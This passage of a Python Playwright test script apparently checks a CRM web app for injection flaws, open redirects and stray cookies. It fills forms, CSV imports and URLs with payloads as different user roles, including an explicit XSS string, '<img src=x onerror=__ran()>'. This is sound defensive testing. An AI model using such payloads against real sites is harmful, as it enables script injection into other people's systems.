            "[name=file]", {"name": self.name, "mimeType": "text/csv", "buffer": self.content})
        Seat.tried.add("/import file")
        await self.step("#upload button")

    async def step(self, button):
        async with self.seat.page.expect_navigation() as navigation:
            await self.seat.page.click(button)
        await self.seat.look(await navigation.value)

    async def take(self, refused=0, targets=()):
        """Tries it, takes it, and sees that as many rows are refused as should be.

        - `targets`: what columns are said to be, by their names.
        """
        await self.send()
        for index, target in targets:
            await self.seat.page.select_option(f"[name=column-{index}]", target)
        for step in ["try", "take"]:
            self.seat.at = f"/import {self.name[:40]} {step}"
            await self.step(f"button[value={step}]")
            found = re.search(r"(\d+) rows? (?:cannot be|was not|were not) taken", self.seat.said)
            count = int(found[1]) if found else 0
            if step == "try":
                await self.mean()
            if count != refused:
                self.seat.say(f"{count} rows refused, not {refused}: {self.seat.said[:300]}")
        Import.refused += refused


    async def mean(self):
        """Says of the file's own words that they mean what is no country."""
        page = self.seat.page
        names = await page.eval_on_selector_all("input[name^=value-]", "fields => fields.map((field) => field.name)")
        for name in names:
            Seat.tried.add(f"/import/run {name}")
            await page.fill(f"[name={name}]", "<img src=x onerror=__ran()>")


def customers():
    """Customers with every text in every column, and some to work on."""
    columns = {
        "name": every("name of a file"), "company": every("company of a file"), "industry": every("industry of a file"),
    }
    lists = {
        "emails": every("emails of a file", no_blank), "phones": every("phones of a file", no_list),
        "chat": every("chat of a file", no_list),
    }
    custom = {"Free 1": every("own column of a file"), "Free 2": every("another column of a file")}
    names = every("name of an own column")
    tags = every("tags of a file", no_tag)
    packs, joints = {}, {name: ";" for name in lists}
    for name, texts in {**columns, **lists, **custom, "tags": tags, "names": names}.items():
        texts = kept(texts, prose=name in custom)
        for text in texts:
            text.is_taken = True
        packs[name] = packed(texts, FIELD, joints.get(name, " · "))
    assert max(len(pack) for pack in packs.values()) <= len(DENSE)
    # Columns are called by all of them at once, and by a text each.
    single = kept(some("own column"))[:200]
    for text in single:
        text.is_taken = True
    header = ["key", "owner", "name", "company", "industry", "emails", "phones", "chat", "tags", "categories", *custom]
    header += [name for name, _ in packs["names"]] + [text.text for text in single]
    # The page of the import shows the first rows whole: what is long comes after them.
    # Whoever can be reached is owed something.
    rows = [{"key": key, "owner": "ann", "name": f"Work {key}", "emails": "x@x.example"} for key in WORKED + TOLD]
    for index, key in enumerate(DENSE):
        row = {"key": key, "owner": "ann", "name": key}
        for name in packs.keys() - {"names"}:
            row.update({name: pack for pack, _ in packs[name][index:index + 1]})
        row["categories"] = row.get("phones", "")
        row.update({name: "1" for name, _ in packs["names"][index:index + 1]})
        row.update({text.text: "1" for text in single[index::len(DENSE)]})
        rows.append(row)
    return header, [[row.get(name, "") for name in header] for row in rows]


def keys():
    """A customer for each text as a key and as a name; some of them in the high seas, most are ann's."""
    texts = kept(every("key"), limit=KEY)
    rows = []
    for index, text in enumerate(texts):
        name = Text("name", text.payload, text.form)
        text.is_taken = name.is_taken = True
        owner, email = "" if index % 130 == 7 else "ann", "x@x.example" if index % 40 == 0 else ""
        rows.append([text.text, name.text, owner, email])
    return texts, rows


def spoiled():
    """Rows that are to be refused: with a text in each column in turn that nobody may keep."""
    names = ["key", "name", "company", "industry", "emails", "phones", "chat", "tags", "owner", "Free 1"]
    rows = []
    for index, text in enumerate(refused(every("refused of a file"))):
        row = {"key": f"Z{index}", "name": "x"}
        name = names[index % len(names)]
        if name == "Free 1" and text.is_kept(True):
            name = "name"
        row[name] = text.text
        rows.append([row.get(name, "") for name in names])
    # What is a word of a list, a number, a day or an address is none of these.
    odd = ["country", "time_zone", "language", "source", "company_size", "annual_purchase", "currency", "credit",
           "budget_authorised", "preferred_channel", "birthday", "do_not_contact", "created_at"]
    for index, text in enumerate(kept(some("odd of a file", no_list))):
        row = {"key": f"Y{index}", "name": "x", odd[index % len(odd)]: text.text}
        rows.append([row.get(name, "") for name in names + odd])
    return names + odd, [row + [""] * (len(names) + len(odd) - len(row)) for row in rows]


def timeline():
    """Entries with every text, and rows that are to be refused."""
    yesterday = time.strftime("%Y-%m-%d", time.gmtime(time.time() - 86400))
    header = ["customer", "kind", "at", "ref", "actor", "note", "reason", "model", "serial", "order_ref", "channel"]
    rows, texts = [], []
    for name, kind, prose in [("note", "note", True), ("reason", "deal-lost", True), ("model", "installed", False),
                              ("serial", "installed", False)]:
        for index, (pack, members) in enumerate(packed(kept(every(f"{name} of an entry"), prose), FIELD)):
            row = {"customer": DENSE[index], "kind": kind, "at": yesterday, "model": "x", "ref": f"{name}{index}"}
            row[name] = pack
            texts += members
            rows.append(row)
    refs, actors = some("ref of an entry"), some("actor of an entry", start=3)
    for ref, actor in zip(refs, actors):
        row = {"customer": TOLD[ref.number % len(TOLD)], "kind": "note", "at": yesterday, "note": "x"}
        if ref in kept([ref], limit=KEY):
            row["ref"] = ref.text
        if actor in kept([actor], limit=KEY):
            row["actor"] = actor.text
            texts.append(actor)
        rows.append(row)
    for text in texts:
        text.is_taken = True
    bad = []
    for index, text in enumerate(some("refused of an entry")):
        row = {"customer": "W1", "kind": "note", "at": yesterday, "note": "x"}
        if text.is_kept(False):
            name = ["customer", "kind", "at", "channel", "order_ref"][index % 5]
            row["kind"] = "order-completed" if name == "order_ref" else "note"
        else:
            name = ["note", "ref", "actor"][index % 3]
            if name == "note" and text.is_kept(True):
                name = "ref"
        row[name] = text.text
        bad.append(row)
    # What is long comes after the rows that the page shows.
    rows = rows[::-1] + bad
    return header, [[row.get(name, "") for name in header] for row in rows], len(bad)


async def bring(max_, boss):
    """All that comes by files."""
    header, rows = customers()
    await Import(max_, "customers.csv", table(header, rows)).take()
    texts, light = keys()
    await Import(max_, "keys.csv", table(["Kennung", "Firma", "owner", "emails"], light)).take(
        targets=[(0, "key"), (1, "name")])
    header, rows = spoiled()
    await Import(boss, "spoiled.csv", table(header, rows)).take(refused=len(rows))
    header, rows, bad = timeline()
    await Import(boss, "timeline.csv", table(header, rows), "timeline").take(refused=bad)
    # Columns and samples stood on the way here: what counts is where they stand from now on.
    for text in Text.known:
        text.is_shown = False
    return [unicodedata.normalize("NFC", text.text) for text in texts]


async def strange_files(seat):
    """Files that are called by texts, and files that cannot be read because of their columns."""
    names = [text for text in kept(some("name of a file sent", no_path)) if "%22" not in text.text]
    for pack, members in packed(names, 7500):
        for text in members:
            text.is_taken = True
        await Import(seat, pack + ".csv", table(["key", "name"], [["x", "y"]])).send()
    columns = [text.text for text in some("strange column")][:250]
    for kind, header in [("timeline", ["customer", "kind", "at", *columns[:200]]), ("customers", columns[:200]),
                         ("customers", ["key", "name", *columns[50:250], *columns[50:51]])]:
        await Import(seat, "strange.csv", table(header, [["x"] * len(header)]), kind).send()
    # Columns that are said to be what nobody offers.
    await Import(seat, "strange.csv", table(["key", "name"], [["x", "y"]])).send()
    seat.at = "/import column-1"
    async with seat.page.expect_navigation() as navigation:
        await seat.page.evaluate(TYPE, ["run", {"column-1": everything("strange choice")}, "button[value=try]"])
    await seat.look(await navigation.value)


class Field:
    """How a text is typed into a field.

    - `limit`: how many bytes it keeps; 0 when it keeps none of the texts.
    - `prose`: whether it has tabs and line ends.
    - `is_shown`: whether a page shows what was kept.
    - `is_brief`: whether each payload is typed in one form only, because what is kept stands many times on a page.
    - `parts`: how many people type a part each, because what they keep stands on pages of theirs alone.
    """

    def __init__(self, limit=FIELD, prose=False, fit=None, is_shown=True, is_brief=False, parts=1):
        self.limit, self.prose, self.fit, self.is_shown, self.is_brief = limit, prose, fit, is_shown, is_brief
        self.parts, self.turn = parts, 0

    def pieces(self, name):
        """All that it keeps, in as many pieces as it takes."""
        if not self.limit:
            return []
        if self.is_brief:
            texts, size = some(name, self.fit), 6000
        elif self.limit < FIELD:
            # A few, one by one.
            texts, size = some(name, self.fit)[::68], 0
        else:
            texts, size = every(name, self.fit)[self.turn::self.parts], FIELD
            self.turn = (self.turn + 1) % self.parts
        return packed(kept(texts, self.prose, self.limit), size)


class Typing:
    """A form, and how all texts are typed into its fields.

    - `form`: its id; `{}` is the customer.
    - `fields`: those that are typed into; at first together what they keep, then what is refused.
    - `others`: what else has to stand in the form; `{n}` is a number that differs each time.
    - `path`: the page with the form; without one a customer's, another one each time.
    - `before`: a form of that page that is sent first, and its fields: without it this one is not owed.
    """

    number, made = 0, []

    def __init__(self, form, fields, others=None, path=None, before=None):
        self.form, self.fields, self.others, self.path, self.before = form, fields, others or {}, path, before

    def place(self):
        """Where the next pieces are typed, and what else is."""
        customer = WORKED[Typing.number % len(WORKED)]
        Typing.number += 1
        path = (self.path or f"/customers/{customer}").replace("{n}", str(Typing.number))
        others = {name: value.replace("{n}", str(Typing.number)) for name, value in self.others.items()}
        return path, self.form.replace("{}", customer), others

    async def prepare(self, seat, path, customer):
        if self.before:
            form, values = self.before
            await seat.type(path, form.replace("{}", customer), values, True)

    async def perform(self, seat):
        pieces = {name: field.pieces(f"{self.form} {name} typed by {seat.name}") for name, field in self.fields.items()}
        for index in range(max(len(packs) for packs in pieces.values())):
            path, form, values = self.place()
            await self.prepare(seat, path, path.split("/")[-1])
            members = []
            for name, packs in pieces.items():
                for pack, texts in packs[index:index + 1]:
                    values[name] = pack
                    members += texts if self.fields[name].is_shown else []
            await seat.type(path, form, values, True, members)
            if "{n}" in self.others.get("key", ""):
                Typing.made.append(values["key"])
        await self.refuse(seat)

    async def refuse(self, seat):
        """Types what nothing keeps: it comes back in its fields, and in what is said of it."""
        path, form, values = self.place()
        await self.prepare(seat, path, path.split("/")[-1])
        for turn, name in enumerate(self.fields):
            values[name] = everything(f"{self.form} {name} refused", turn)
        await seat.type(path, form, values, False)


# By who types: all fields of all forms of the pages. A search for nobody leaves the other forms on the page.
NOBODY = "/customers?q=nobody{n}"
TEXT, PROSE, NEVER, SHORT, BRIEF = Field(), Field(prose=True), Field(limit=0), Field(limit=KEY), Field(is_brief=True)
# No page shows what was found in a review.
KEPT = Field(prose=True, is_shown=False)
SAVED = Typing("save", {"name": Field(parts=len(ROLES))}, path=NOBODY)
PROGRAMS = Typing("token", {"name": Field(parts=len(ROLES))}, path="/settings")
TYPED = {
    "ann": [
        Typing("log-{}", {"note": PROSE}),
        Typing("event-{}", {"note": PROSE, "reason": TEXT}, {"kind": "deal-lost"}),
        Typing("event-{}", {"ref": Field(limit=KEY, is_shown=False), "amount": NEVER, "currency": NEVER,
                            "expectedClose": NEVER, "at": NEVER}, {"kind": "note", "note": "x"}),
        Typing("snooze-{}", {"reason": TEXT}, {"until": "+7d"}),
        Typing("promise-{}", {"what": TEXT, "due": NEVER}),
        Typing("form-{}", {"result": PROSE, **{name: TEXT for name in ["goal", "method", "problems", "support", "nextStep"]}},
               {"fits": "true"}, before=("log-{}", {"channel": "phone", "outcome": "reached", "note": "x"})),
        Typing("weekly-review", {name: KEPT for name in ["methods", "worked", "problems", "support", "nextWeek"]},
               path="/?days=30"),
        Typing("override", {"reason": TEXT, "until": NEVER}, {"scheme,label": "grade,A"}),
        Typing("release", {"reason": TEXT}),
        SAVED, PROGRAMS,
    ],
    "max": [
        Typing("edit", {"set.name": TEXT, "set.company": TEXT, "set.industry": TEXT, "set.country": NEVER,
                        "set.time_zone": NEVER, "set.company_size": NEVER, "set.emails": Field(limit=KEY, fit=no_blank),
                        "set.phones": Field(fit=no_list), "set.chat": Field(fit=no_list)}),
        Typing("add", {"key": SHORT, "name": Field(limit=400)}, path="/customers?q=nobody"),
        Typing("add", {"company": TEXT, "emails": Field(limit=KEY, fit=no_blank), "phones": Field(fit=no_list), "country": NEVER},
               {"key": "M{n}", "name": "x", "owner": "ann"}, "/customers?q=nobody"),
        SAVED, PROGRAMS,
    ],
    "boss": [
        SAVED, PROGRAMS,
        Typing("policy-review", {"note": KEPT}, path="/?days=366"),
        Typing("adduser", {"user": SHORT}, path="/settings"),
        Typing("addteam", {"team": SHORT}, path="/settings"),
        # Names of people and teams stand in choices on most pages.
        Typing("adduser", {"name": BRIEF}, {"user": "u{n}"}, "/settings"),
        Typing("change-zoe", {"name": BRIEF}, path="/settings"),
        Typing("addteam", {"name": BRIEF}, {"team": "t{n}"}, "/settings"),
    ],
}


async def batches(seat):
    """Tags and reasons of many at once: what would happen is shown, then it is done."""
    for field, action, texts in [("tags", "add-tags", every("batch tags typed", no_tag)),
                                 ("reason", "release", every("batch reason typed"))]:
        for pack, members in packed(kept(texts), FIELD):
            await seat.type("/customers?q=W149", "batch", {"action": action, "customers": "W149", field: pack})
            if field == "reason":
                continue
            for text in members:
                text.is_taken, text.is_shown = True, False
            async with seat.page.expect_navigation() as navigation:
                await seat.page.click("#run button")
            await seat.look(await navigation.value)
        values = {"action": action, "customers": "W149", field: everything(f"batch {field} refused")}
        await seat.type("/customers?q=W149", "batch", values, False)


async def slips(seat):
    """Entries that are taken back, with reasons."""
    for number, (pack, texts) in enumerate(TEXT.pieces("retract reason") + [(everything("retract reason refused"), None)]):
        customer = WORKED[-1 - number % 50]
        path = f"/customers/{customer}"
        await seat.type(path, f"log-{customer}", {"outcome": "no-answer", "note": "x"}, True)
        form = await seat.page.locator("form[id^=retract-]").first.get_attribute("id")
        await seat.type(path, form, {"reason": pack}, texts is not None, texts or ())


async def oddly(user, seat):
    """What is typed in ways of its own: passwords, numbers and searches."""
    if user == "nobody":
        values = {name: everything(f"login {name}") for name in ["user", "password"]}
        return await seat.type("/login", "login", values, False)
    values = {name: everything(f"password {name}") for name in ["old", "new"]}
    await seat.type("/settings", "password", values, False)
    await seat.type("/settings", "token", {"name": "x", "days": everything("token days")})
    if user == "boss" and seat.is_off:
        await seat.type("/settings", "password-zoe", {"new": everything("password of somebody")})
    for path in ["/customers", "/seas"]:
        await seat.go(path)
        await seat.page.fill("[name=q]", everything(f"{path} q")[:3000])
        seat.at = f"{path} q"
        async with seat.page.expect_navigation() as navigation:
            await seat.page.keyboard.press("Enter")
        await seat.look(await navigation.value)
        Seat.tried.add(f"{path} q")


async def decide(seat):
    """Refuses what waits for approval, with reasons, which stand on the timelines then."""
    await seat.go("/approvals")
    forms = await seat.page.locator("form[id^=decide-]").evaluate_all("(forms) => forms.map((form) => form.id)")
    no = "button[value=false]"
    await seat.type("/approvals", forms[0], {"reason": everything("decide reason refused")}, False, button=no)
    for form, (pack, texts) in zip(forms, TEXT.pieces("decide reason"), strict=True):
        await seat.type("/approvals", form, {"reason": pack}, True, texts, no)
        await seat.go(f"/customers/{form.split('-')[1]}")


# 5. Looking.

SINGLE = ["/", "/?days=30&limit=300", "/customers", "/batches", "/seas", "/approvals", "/team", "/funnel", "/import", "/settings"]
# Where a query puts texts, and where a path does.
QUERIES = ["/?owner={}", "/?at={}", "/?days={}", "/?limit={}", "/?done={}", "/?done=logEvent&moved={}",
           "/?done=runBatch&batch={}", "/customers?q={}", "/customers?q=%22{}%22",
           "/customers?sort={}", "/customers?sort=name&after={}", "/customers/W1?before={}",
           "/seas?q={}", "/import?x={}", "/settings?{}=x", "/login?to={}", "/login?to=/{}", "/setup?x={}"]
WORDS = ["/customers?q=-{}", "/customers?q=stage:{}", "/seas?q={}:x"]
SEGMENTS = ["/{}", "/customers/{}", "/customers/W1/{}", "/problems/{}", "/assets/{}", "/do/{}", "/team/{}"]


def addresses():
    """Each place of an address with all payloads in turn, as many as fit into one."""
    found = []
    for turn, place in enumerate(QUERIES + WORDS + SEGMENTS):
        texts = some(place, start=turn)
        if place in WORDS:
            # Each is understood in a way of its own: one at a time.
            found += [place.replace("{}", quote(text.text, safe="")) for text in texts[turn % 16::16]]
        path = ""
        for text in texts:
            more = quote(text.text, safe="")
            if len(path) + len(more) > 7500:
                found.append(place.replace("{}", path))
                path = ""
            path += more
        found.append(place.replace("{}", path))
    return found


async def trying(seat, work):
    """What goes wrong is a fault, and no reason to leave the rest undone."""
    try:
        await work
    except Exception as error:
        seat.say(f"cannot be done: {str(error)[:300]}")


async def visit(seat, paths):
    for path in paths:
        await trying(seat, seat.go(path))


async def touch(seat, paths):
    """Points at what stands on a page, as a person would, and follows what came out of a text."""
    for path in paths:
        await seat.go(path)
        parts = await seat.page.locator("main a, main summary, main input, main dd, main p").all()
        for part in parts[:12]:
            box = await part.bounding_box()
            if box:
                await seat.page.mouse.move(box["x"] + 3, box["y"] + 3)
                await part.evaluate("(part) => part.focus()")
        for link in ["main a[href^='mailto:']", "main a[href^='tel:']"]:
            if await seat.page.locator(link).count():
                await seat.page.locator(link).first.press("Enter")
        for link in ["main .tabs a", "main a.customer"]:
            if await seat.page.locator(link).count():
                async with seat.page.expect_navigation() as navigation:
                    await seat.page.locator(link).first.press("Enter")
                await seat.look(await navigation.value)


async def shared(seats, paths):
    """Opens each of `paths` at one of the seats, by turns."""
    await at_once(*(visit(seat, paths[index::len(seats)]) for index, seat in enumerate(seats)))


async def at_once(*works, limit=3):
    """Two processors do no more at once."""
    gate = asyncio.Semaphore(limit)

    async def one(work):
        async with gate:
            return await work

    return await asyncio.gather(*(one(work) for work in works))


async def redirects(state):
    """Whoever is sent on after a form stays here, wherever the form asks to go."""
    count = 0
    for text in some("to of a form") + some("to of a form", start=3):
        for to in {text.text, "/" + text.text}:
            response = await state.post("/language", form={"next": to, "language": "en"}, max_redirects=0)
            place = response.headers.get("location", "")
            if not re.match(r"/(?![/\\])", place) or re.search("[\0-\x20]", place) or "canary" in response.headers.get(
                    "set-cookie", ""):
                faults.append(f"sent on to {place[:100]}: {text}")
            count += 1
    return count


# 6. The whole of it.


async def doors(playwright):
    """The first administrator, two more people, and their sessions: kept, because each login takes seconds."""
    headers = {"Origin": BASE}
    states = {}
    boss = await playwright.request.new_context(base_url=BASE, extra_http_headers=headers)
    await boss.post("/setup", form={"token": TOKEN, "user": "boss", "name": "The Boss", "password": PASSWORD})
    states["boss"] = await boss.storage_state()
    await boss.post("/do/addTeam", form={"team": "north"})
    for user, role in [("ann", "salesperson"), ("max", "manager"), ("zoe", "salesperson")]:
        await boss.post("/do/addUser", form={"user": user, "role": role, "team": "north"})

    async def come_in(user):
        await boss.post("/settings/password", form={"user": user, "new": PASSWORD})
        theirs = await playwright.request.new_context(base_url=BASE, extra_http_headers=headers)
        await theirs.post("/login", form={"user": user, "password": PASSWORD})
        states[user] = await theirs.storage_state()

    await asyncio.gather(come_in("ann"), come_in("max"))
    return states, boss


async def main():
    started = time.monotonic()

    def tell(what):
        print(f"{time.monotonic() - started:4.0f} s  {what}", flush=True)

    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path="/usr/bin/chromium", args=[
            # Nobody else is asked for anything.
            "--no-sandbox", "--renderer-process-limit=2", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
        nobody = {is_off: await Seat.open(browser, f"nobody, policy {'off' if is_off else 'on'}", is_off=is_off)
                  for is_off in (True, False)}
        for seat in nobody.values():
            typed = {field: everything(f"setup {field}") for field in ["token", "user", "name"]}
            await seat.type("/setup", "setup", {**typed, "password": "x" * 20}, False)
        (states, boss), live = await asyncio.gather(doors(playwright), control(browser))
        tell(f"{len(live)} texts run where nobody escapes them, {len({text.payload.name for text in live})} payloads of "
             f"{len(PAYLOADS)}")
        seats = {
            (user, locale, is_off): await Seat.open(
                browser, f"{ROLES[user]}, {locale}, policy {'off' if is_off else 'on'}", locale, is_off, states[user])
            for is_off in (True, False) for locale in LANGUAGES for user in ROLES}

        def of(user, is_off=True):
            return seats[user, "en-GB", is_off]

        keys = await bring(of("max"), of("boss"))
        tell("imported")

        async def typed(user, seat, is_off):
            works = [typing.perform(seat) if is_off else typing.refuse(seat) for typing in TYPED.get(user, [])]
            works.append(oddly(user, seat))
            if is_off and user == "ann":
                works += [batches(seat), slips(seat)]
            if is_off and user == "boss":
                works.append(strange_files(seat))
            for work in works:
                await trying(seat, work)

        # What is refused is told in both languages.
        await at_once(*(typed(user, seats[user, "en-GB", True], True) for user in ROLES),
                      *(typed(user, seats[user, "zh-CN", False], False) for user in ROLES),
                      typed("nobody", nobody[True], True))
        tell("typed")

        every_page = SINGLE + ["/customers/W1", "/customers/T1"]
        # What was made meanwhile stands among them: pages overlap a little.
        order = sorted(keys + DENSE + TOLD + WORKED, key=lambda key: key.encode())
        lists = ["/customers?after=" + quote(key) for key in order[39::40]]
        own = [f"/customers/{quote(key, safe='')}" for key in keys[::53]]
        places = addresses()
        at_doors = [path for path in places if re.match("/(login|problems|assets|setup)", path)] + places[::40]
        made = [f"/customers/{key}" for key in Typing.made]
        dense = [f"/customers/{key}" for key in DENSE + TOLD] + made
        for is_off in (True, False):
            what = f"policy {'off' if is_off else 'on'}"
            those = [seat for (_, _, off), seat in seats.items() if off == is_off]
            await at_once(*(visit(seat, every_page) for seat in those))
            tell(f"{what}: every page by everybody")
            await shared(those, (dense + lists + own)[:: 1 if is_off else 3])
            tell(f"{what}: every customer")
            await shared(those, places[:: 1 if is_off else 4])
            await visit(nobody[is_off], at_doors)
            tell(f"{what}: every address")
        for user in ROLES:
            await trying(of(user), touch(of(user), ["/customers?q=W1", own[5], *made[:1]]))
        await trying(of("max"), decide(of("max")))
        tell("touched and decided")

        sent = await redirects(boss)
        for seat in seats.values():
            await seat.page.wait_for_timeout(20)
            for cookie in await seat.context.cookies():
                if cookie["name"] not in ("rapport_session", "rapport_language", "rapport_device"):
                    seat.say(f"a cookie, {cookie['name']}")
        await browser.close()

    taken = [text for text in Text.known if text.is_taken]
    unseen = [text for text in taken if not text.is_shown]
    for field, texts in itertools.groupby(sorted(unseen, key=lambda text: text.field), lambda text: text.field):
        texts = list(texts)
        faults.append(f"never shown: {field}: {len(texts)}, for example {texts[0].payload.name}, {texts[0].form}")
    faults.extend(f"nobody typed into {field}" for field in sorted(Seat.seen - Seat.tried))
    listed = list(dict.fromkeys(faults))
    for fault in listed[:60]:
        print(fault)
    if len(listed) > 60:
        print(f"… and {len(listed) - 60} more")
    tell(f"scripts: {len(listed)} faults; {len({text.payload.text for text in taken})} payloads in {len(FORMS)} forms, "
         f"{len(taken)} texts taken and {len(taken) - len(unseen)} shown, {Import.refused} rows and {Seat.refusals} forms "
         f"refused, {Seat.looks} pages looked at, {sent} redirects")
    return 1 if listed else 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
